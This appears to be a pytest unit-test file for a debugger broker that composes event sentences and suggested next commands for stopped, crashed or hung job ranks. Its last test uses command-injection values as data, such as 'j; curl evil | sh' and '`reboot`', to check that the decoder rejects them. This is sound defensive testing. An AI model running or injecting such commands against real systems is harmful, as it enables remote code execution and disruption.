"""Sentences of events for stops without a place, for one other rank, for signals without a name, and for hangs."""

from __future__ import annotations

import json

import pytest

from dbg_broker.events import event as sentences
from dbg_broker.events.event import EventKind, RankSnapshot
from dbg_wire.codec import decode
from dbg_wire.errors import PeerError
from dbg_wire.messages import Hang, Sender
from dbg_wire.records.ranks import Place
from dbg_wire.targets.grammar import parse_target
from tests.conftest import Approved
from tests.unit.broker.events.test_occasions import ended, stopped


def test_a_stock_debugger_that_names_no_place_is_told_without_one() -> None:
    seen = [RankSnapshot(stopped(number, where=Place(file="", line=0, function=""))) for number in range(2)]
    event = sentences.of_ranks(EventKind.STOP, seen, 1.0)
    assert event.sentence == "gpu013:0 of job 4711.0 stopped, and 1 other rank"


@pytest.mark.parametrize(
    ("left", "shown"), [(28800.0, "480 min"), (119.4, "119 s"), (120.0, "2 min"), (0.0, "0 s"), (None, "0 s")]
)
def test_the_time_left_is_told_in_minutes_or_seconds(approved: Approved, left: float | None, shown: str) -> None:
    event = sentences.of_ranks(EventKind.LEASE, [RankSnapshot(stopped(lease=28800.0, lease_seconds=left))], 1.0)
    approved(event.sentence)


def test_a_rank_that_is_gone_names_the_list_as_next_step_and_its_signal(approved: Approved) -> None:
    event = sentences.of_ranks(EventKind.CRASH, [RankSnapshot(ended(0, -50))], 1.0)
    approved(event.sentence)
    assert event.next == "dbg-attach list --all"


@pytest.mark.parametrize(
    ("says", "begins"), [("", "job j hangs: no"), ("a driver (bob)", "job j hangs, as a driver (bob) says: no")]
)
def test_what_to_type_at_a_hang_comes_from_the_broker(says: str, begins: str) -> None:
    event = sentences.hang(Hang(job="j", kind="unknown", sentence="no cause is seen"), says, 1.0)
    assert event.sentence.startswith(begins)
    assert event.next == "dbg-attach why j/all"
    assert [term.job for term in parse_target("j/all").include] == ["j"]


@pytest.mark.parametrize("changes", [{"job": "j; curl evil | sh"}, {"ranks": "`reboot`"}, {"job": ""}])
def test_a_verdict_can_not_make_up_what_to_type(changes: dict[str, str]) -> None:
    said = {"type": "hang", "job": "j", "kind": "missing", "sentence": "rank 3 is missing", "ranks": "3"}
    assert not hasattr(decode(json.dumps({**said, "next": "reboot"}), Sender.CLIENT), "next")
    with pytest.raises(PeerError):
        decode(json.dumps({**said, **changes}), Sender.CLIENT)
